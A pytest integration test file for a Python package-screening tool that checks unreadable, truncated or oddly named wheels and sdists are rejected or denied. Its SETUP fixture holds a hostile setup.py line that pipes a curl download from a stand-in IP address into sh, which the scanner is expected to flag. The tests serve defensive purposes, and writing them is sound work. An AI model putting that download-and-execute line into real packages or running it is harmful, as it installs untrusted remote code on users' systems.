"""A distribution that cannot be read is never allowed (issue 15, defect 8).

Named on the command line, it is bad input (exit 2, as for ``screen`` and ``diff``); served by
an index, the package is denied. What pip does read (a tar without its end marker, an sdist
with an invalid file name installed from a path) is analysed, and denied for its form too.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import PackageIndex, assert_no_traceback
from tests.helpers.cli import check_json
from tests.helpers.dists import DistSpec, build_sdist, build_wheel
from tests.helpers.policies import without_provenance_requirement
from verify._cli import main

pytestmark = pytest.mark.integration

FILENAME = "demo-1.0-py3-none-any.whl"


def _unreadable(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / "bad" / FILENAME
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "html":
        path.write_bytes(b"<!doctype html><html><body>Not Found</body></html>\n")
    else:
        good = build_wheel(DistSpec("demo", "1.0"), tmp_path / "good")
        data = good.read_bytes()
        path.write_bytes(data[: len(data) // 2])
    return path


@pytest.mark.parametrize("kind", ["empty", "html", "truncated"])
def test_check_of_a_local_file_that_is_no_archive_is_bad_input(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, kind: str
) -> None:
    path = _unreadable(tmp_path, kind)
    code = main(["check", str(path), "--offline", "--cache-dir", str(tmp_path / "cache")])
    captured = capsys.readouterr()
    assert code == 2, captured
    assert_no_traceback(captured.out + captured.err)
    (line,) = captured.err.strip().splitlines()
    assert line.startswith("pip-verify: error:")
    assert FILENAME in line


def test_an_index_file_that_is_no_archive_is_denied(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, package_index: PackageIndex
) -> None:
    # Pinned by hash, the file is fetched and verified as the index lists it, but it is not a
    # wheel: the package must be denied, not allowed with a warning.
    path = _unreadable(tmp_path, "html")
    package_index.add(path)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(f"demo==1.0 --hash=sha256:{digest}\n")
    code, report = check_json(
        capsys,
        tmp_path,
        "-r",
        str(requirements),
        "--index-url",
        package_index.url,
        policy=without_provenance_requirement(),
    )
    assert code == 1, report
    (package,) = report["packages"]
    assert package["decision"] == "deny"
    reasons = [r for r in package["reasons"] if r["rule"] == "behaviour"]
    assert reasons, package["reasons"]
    assert reasons[0]["decision"] == "deny"
    assert "not a readable distribution" in reasons[0]["message"]


#: setup.py of the sdists below: what screen must find once it reads them.
SETUP = b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def _screen_denied(capsys: pytest.CaptureFixture[str], tmp_path: Path, path: Path) -> Any:
    """Screen ``path`` offline: it must be denied, without a traceback; the JSON package."""
    report = tmp_path / "report.json"
    cache = tmp_path / "cache"
    options = ["--offline", "--no-public-check", "--no-record", "--format", "json"]
    code = main(["screen", str(path), *options, "--cache-dir", str(cache), "-o", str(report)])
    captured = capsys.readouterr()
    assert code == 1, captured
    assert_no_traceback(captured.out + captured.err)
    (package,) = json.loads(report.read_text())["packages"]
    assert package["decision"] == "deny"
    return package


def _denied_rules(package: Any) -> set[str]:
    return {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}


def test_screen_of_a_tar_sdist_without_its_end_marker_analyses_it_and_denies(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    # tarfile (and so pip) reads a tar stream that stops cleanly after its last member as a
    # complete archive and installs it: screen reads what pip would install, reports what it
    # does, and denies the missing marker itself.
    stream = bytearray()
    for name, data in (
        ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
        ("demo-1.0/setup.py", SETUP),
    ):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        stream += info.tobuf(format=tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(bytes(stream)))
    denied = _denied_rules(_screen_denied(capsys, tmp_path, path))
    assert "archive-unterminated" in denied
    # The content was read: what setup.py does is found, not only the archive's shape.
    assert denied & {"download-exec", "process-spawn"}, denied


def test_screen_of_an_sdist_with_an_invalid_name_names_it_by_its_metadata_and_denies(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    # pip installs "demo-1.0-py3-none-any.tar.gz" from a path or URL, named by its PKG-INFO:
    # screen reads it as such, reports what it does, and denies the name itself.
    built = build_sdist(DistSpec("demo", "1.0", files={"setup.py": SETUP}), tmp_path / "sdist")
    path = built.rename(tmp_path / "demo-1.0-py3-none-any.tar.gz")
    package = _screen_denied(capsys, tmp_path, path)
    assert (package["name"], package["version"]) == ("demo", "1.0")
    denied = _denied_rules(package)
    assert "filename-invalid" in denied
    assert denied & {"download-exec", "process-spawn"}, denied
